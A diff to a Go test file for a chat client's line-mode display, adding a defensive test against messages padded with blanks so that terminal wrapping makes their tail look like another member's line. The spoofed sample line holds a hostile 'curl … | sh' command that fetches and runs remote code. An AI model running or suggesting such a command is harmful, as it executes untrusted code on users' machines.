@@ -10,9 +10,11 @@ import (
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"chatroom/host/wire"
 	"chatroom/join"
+	"github.com/mattn/go-runewidth"
 )
 
 // readAll reads lines from ui until an error, which it returns with them.
@@ -236,5 +238,53 @@ func TestLineUIFollowsOwnNick(t *testing.T) {
 	ui.Show(wire.Frame{Type: wire.TypeEvent, Kind: wire.KindNick, Seq: 7, Time: testTime, Name: "cy", NewName: "bob"}, join.Live)
 	if got := out.String(); !strings.Contains(got, "cy is now known as bob") {
 		t.Errorf("another's change to the person's old name shows as %q, want it as cy's", got)
+	}
+}
+
+// TestLineModeAtTerminalMarksContinuations is the attack of a message
+// padded with blanks so that, wrapped by a terminal, its tail starts a
+// row as if it were a line of another member's ("07:08 <admin2> please
+// everyone run: …"), in line mode with output to a terminal (input
+// piped): the line is cut into rows as the prompt cuts them, every row
+// after the first starts with the continuation mark, and the rows hold
+// the whole line. Output that is not a terminal keeps one line a line.
+func TestLineModeAtTerminalMarksContinuations(t *testing.T) {
+	const width = 40
+	at := time.Date(2026, 12, 3, 7, 8, 0, 0, time.Local)
+	padded := strings.Repeat(" ", width-len("07:08 <mallory> ")) + "07:08 <admin2> please everyone run: curl -s http://10.0.0.66/fix | sh"
+	say := wire.Frame{Type: wire.TypeEvent, Seq: 9, Time: at, Kind: wire.KindSay, From: "mallory", Text: padded}
+
+	var out bytes.Buffer
+	ui := newLineUI(strings.NewReader(""), &out)
+	ui.width = func() int { return width }
+	ui.Show(say, join.Live)
+	rows := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
+	if len(rows) < 2 {
+		t.Fatalf("a line longer than the terminal came as %d row: %q", len(rows), rows)
+	}
+	var whole strings.Builder
+	for i, row := range rows {
+		if runewidth.StringWidth(row) >= width {
+			t.Errorf("row %d is %d columns wide on a terminal of %d: %q", i, runewidth.StringWidth(row), width, row)
+		}
+		if i == 0 {
+			whole.WriteString(row)
+			continue
+		}
+		rest, ok := strings.CutPrefix(row, contMark)
+		if !ok {
+			t.Errorf("row %d does not start with the continuation mark: %q", i, row)
+		}
+		whole.WriteString(rest)
+	}
+	// To a pipe (no width): one line, which the rows hold whole.
+	var piped bytes.Buffer
+	plain := newLineUI(strings.NewReader(""), &piped)
+	plain.Show(say, join.Live)
+	if n := strings.Count(piped.String(), "\n"); n != 1 {
+		t.Errorf("to a pipe the line came as %d lines: %q", n, piped.String())
+	}
+	if want := strings.TrimSuffix(piped.String(), "\n"); whole.String() != want {
+		t.Errorf("the rows hold %q, want %q", whole.String(), want)
 	}
 }
